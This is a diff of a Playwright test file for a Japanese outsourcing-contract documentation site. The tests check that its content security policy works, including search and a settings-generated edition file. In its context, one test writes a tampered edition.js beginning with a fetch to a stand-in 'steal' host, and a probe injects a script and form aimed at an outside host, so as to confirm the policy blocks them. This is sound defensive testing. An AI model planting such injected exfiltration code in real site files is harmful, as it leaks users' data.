@@ -391,7 +391,7 @@ PROBE = """async () => {
   const script = document.createElement('script'); script.src = 'https://example.invalid/x.js'; document.body.append(script);
   const form = document.createElement('form'); form.action = 'https://example.invalid/post'; form.method = 'post';
   document.body.append(form); try { form.requestSubmit(); } catch (e) {}
-  await new Promise((r) => setTimeout(r, 300));
+  for (let n = 0; n < 30 && new Set(seen).size < 5; n += 1) await new Promise((r) => setTimeout(r, 100));
   return [...new Set(seen)].sort();
 }"""
 
@@ -413,6 +413,20 @@ def test_edition_absence_is_said_and_the_policy_keeps_data_in(quiet_page, copy_u
         page.goto(copy_url + "index.html")
         expect(page.locator("#itaku-edition-message")).to_contain_text("org_type（団体の種類）")
         expect(page.locator("#itaku-edition .itaku-edition-name")).to_have_text(builtin)
+        # A file made by the settings page (with its own clause and item) is in force, without Python too.
+        made = {"org_name": "△△県", "org_type": "prefecture", "ordinance": "△△県個人情報保護法施行条例",
+                "rules": "△△県安全管理規程", "privacy_section": "総務部県政情報課", "contact": "内線 1234",
+                "head_title": "", "party_style": "",
+                "clauses": [{"id": "local-1", "title": "バックアップの保管", "inclusion": "required",
+                             "text": "{{contractor}}は、バックアップを保管しなければならない。"}],
+                "items": [{"id": "local-1-01", "clause": "local-1", "before": "定めていますか。",
+                           "after": "保管しましたか。", "evidence": ["保管記録"], "answered_by": "受託者"}]}
+        (copy_dir / "edition.js").unlink()
+        (copy_dir / "edition.js").write_text(js_text(made), encoding="utf-8")
+        page.goto(copy_url + "index.html")
+        expect(page.locator("#itaku-edition .itaku-edition-name")).to_have_text("△△県")
+        expect(page.locator("#itaku-edition-message")).to_have_count(0)
+        (copy_dir / "edition.js").unlink()
         # A tampered edition.js runs as code, but every request outside the site is refused by the policy.
         (copy_dir / "edition.js").write_text(
             "fetch('https://example.invalid/steal').catch(() => {});\n" + js_text(CORPUS.edition["raw"]),
@@ -453,7 +467,15 @@ def test_pyodide_pages_work_under_the_policy(quiet_page, site_url: str) -> None:
     page.set_input_files('input[type=file][data-input="jobs"]', files=as_files([("job.json", files["job.json"])]))
     expect(page.locator("#register")).to_have_attribute("data-state", "ready", timeout=READY_MS)
     expect(page.locator("#itaku-rows tr[data-job]")).to_have_count(1)
-    if site_url.startswith("file:"):  # Material's search runs through the iframe-worker shim there
-        page.goto(site_url + "index.html")
+    page.goto(site_url + "settings/index.html")
+    expect(page.locator("#settings")).to_have_attribute("data-state", "ready", timeout=READY_MS)
+    # Material's search (its worker; on file:// the iframe-worker shim) works under the policy.
+    page.goto(site_url + "index.html")
+    box = page.locator("input.md-search__input")
+    box.click()
+    expect(page.locator(".md-search-result__meta")).to_have_text("検索キーワードを入力してください", timeout=60_000)
+    box.press_sequentially("再委託")
+    box.press("End")
+    expect(page.locator("ol.md-search-result__list > li.md-search-result__item").first).to_be_visible(timeout=30_000)
     assert not errors, errors
     assert not outside, outside
